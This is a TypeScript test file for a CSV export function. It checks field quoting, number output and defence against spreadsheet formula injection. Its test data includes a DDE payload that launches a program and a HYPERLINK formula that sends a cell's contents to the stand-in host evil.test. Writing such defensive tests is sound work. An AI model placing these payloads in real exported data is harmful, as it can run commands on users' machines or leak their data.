import { expect, test } from 'vitest'
import { asText, asWritten, csv, isFormula } from '../../../../src/data/export/csv.ts'

test('fields are quoted only if necessary', () => {
  expect(csv([['a', 'b c', ''], ['x,y', 'say "hi"', 'two\nlines'], ['a\r']])).toBe(
    'a,b c,\r\n"x,y","say ""hi""","two\nlines"\r\n"a\r"\r\n',
  )
})

test('numbers are written in full, and nothing if there is none', () => {
  expect(csv([[1 / 3, 0.1 + 0.2, -1, 1e21, null]])).toBe(
    '0.3333333333333333,0.30000000000000004,-1,1e+21,\r\n',
  )
})

test('text stays as it is: letters of any script, spaces, signs within', () => {
  expect(csv([[' Müller ', '腹部', '1+1=2', 'a@b', '−0.5', '']])).toBe(' Müller ,腹部,1+1=2,a@b,−0.5,\r\n')
})

test.each([
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  ' =1+1',
  '\u00a0@x',
  '\t=1+1',
  '\tx',
  '\r=1+1',
  '\nx',
  '\n-1',
  '＝1+1',
  '－1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.test?"&A1,"x")',
])('a spreadsheet takes %j for text', hostile => {
  const quoted = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text)
  expect(isFormula(hostile)).toBe(true)
  // In the head of a column, too.
  for (const at of [0, 1, 2]) {
    const row = ['a', 'b', 'c'].with(at, hostile)
    expect(csv([row])).toBe(`${row.with(at, quoted(`'${hostile}`)).join()}\r\n`)
  }
  for (const text of [hostile, `'${hostile}`, `''${hostile}`]) {
    expect(isFormula(asText(text))).toBe(false)
    expect(asWritten(asText(text))).toBe(text)
  }
})

test('an apostrophe before other text stays as it is, and so does text without one', () => {
  for (const text of ["'", "'s", "''", 'a', '', "it's =1", '2-3']) {
    expect(asText(text)).toBe(text)
    expect(asWritten(text)).toBe(text)
  }
})

test('a negative number is a number', () => {
  expect(csv([[-1.5, '-1.5', Number.NEGATIVE_INFINITY]])).toBe("-1.5,'-1.5,-Infinity\r\n")
})

test('nothing makes nothing', () => {
  expect(csv([])).toBe('')
})
